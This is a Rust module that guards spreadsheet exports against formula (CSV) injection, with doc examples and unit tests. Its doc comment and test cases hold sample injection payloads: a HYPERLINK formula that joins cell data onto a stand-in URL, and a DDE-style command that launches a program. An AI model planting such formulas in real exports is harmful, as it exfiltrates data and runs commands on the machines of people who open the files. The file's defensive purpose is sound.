//! Cells that spreadsheet programs read as text, never as a formula.
//!
//! A register's address such as `=HYPERLINK("http://…"&A1,"Xem")` would
//! run as a formula in the spreadsheet of the official who opens an export.
//! Every text cell of every export goes through [`spreadsheet_cell`], which
//! follows OWASP's advice on CSV injection: a cell that begins with `=`,
//! `+`, `-`, `@`, a tab or a carriage return gets a single quote in front,
//! so the program shows it as text. A plain number (`-12`, `-0.5`: an
//! optional minus, digits, an optional decimal part) cannot be a formula and
//! stays a number. A phone number such as `+84 912 345 678` is text and
//! is quoted.
//!
//! The register's import takes such a quote off again ([`from_spreadsheet`]),
//! so exporting a register and importing it changes nothing.
//!
//! ```
//! use doorstep_service::export::{from_spreadsheet, spreadsheet_cell};
//! assert_eq!(spreadsheet_cell("=1+1"), "'=1+1");
//! assert_eq!(spreadsheet_cell("-12.5"), "-12.5");
//! assert_eq!(spreadsheet_cell("Thôn 3"), "Thôn 3");
//! assert_eq!(from_spreadsheet("'=1+1"), "=1+1");
//! ```

use std::borrow::Cow;

/// What a spreadsheet program may take for the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell as an export writes it: quoted when a spreadsheet program
/// could read it as a formula.
pub fn spreadsheet_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) && !is_plain_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A cell of an export as [`spreadsheet_cell`] made it; what a CSV writer
/// takes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SafeCell<'a>(Cow<'a, str>);

impl AsRef<[u8]> for SafeCell<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

/// A record's cells, each as [`spreadsheet_cell`] writes it.
pub fn spreadsheet_record<'a, I>(cells: I) -> Vec<SafeCell<'a>>
where
    I: IntoIterator<Item = &'a str>,
{
    cells
        .into_iter()
        .map(|cell| SafeCell(spreadsheet_cell(cell)))
        .collect()
}

/// A cell as an import reads it: the quote [`spreadsheet_cell`] put in front
/// of a formula-like text taken off again.
pub fn from_spreadsheet(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// `-12`, `-0.5`, `3`: an optional minus, digits, an optional decimal part.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::{from_spreadsheet, spreadsheet_cell};

    #[test]
    fn formula_like_text_is_quoted_and_numbers_stay_numbers() {
        for (text, written) in [
            (
                "=HYPERLINK(\"http://x\"&A1,\"Xem\")",
                "'=HYPERLINK(\"http://x\"&A1,\"Xem\")",
            ),
            ("+84 912 345 678", "'+84 912 345 678"),
            ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
            ("@SUM(1,2)", "'@SUM(1,2)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("-1-1", "'-1-1"),
            ("-1e5", "'-1e5"),
            ("-12", "-12"),
            ("-0.25", "-0.25"),
            ("19.8", "19.8"),
            ("Thôn 3, Hải Thanh", "Thôn 3, Hải Thanh"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_cell(text), written, "{text:?}");
            assert_eq!(from_spreadsheet(&spreadsheet_cell(text)), text, "{text:?}");
        }
        assert_eq!(from_spreadsheet("'quoted"), "'quoted");
    }
}
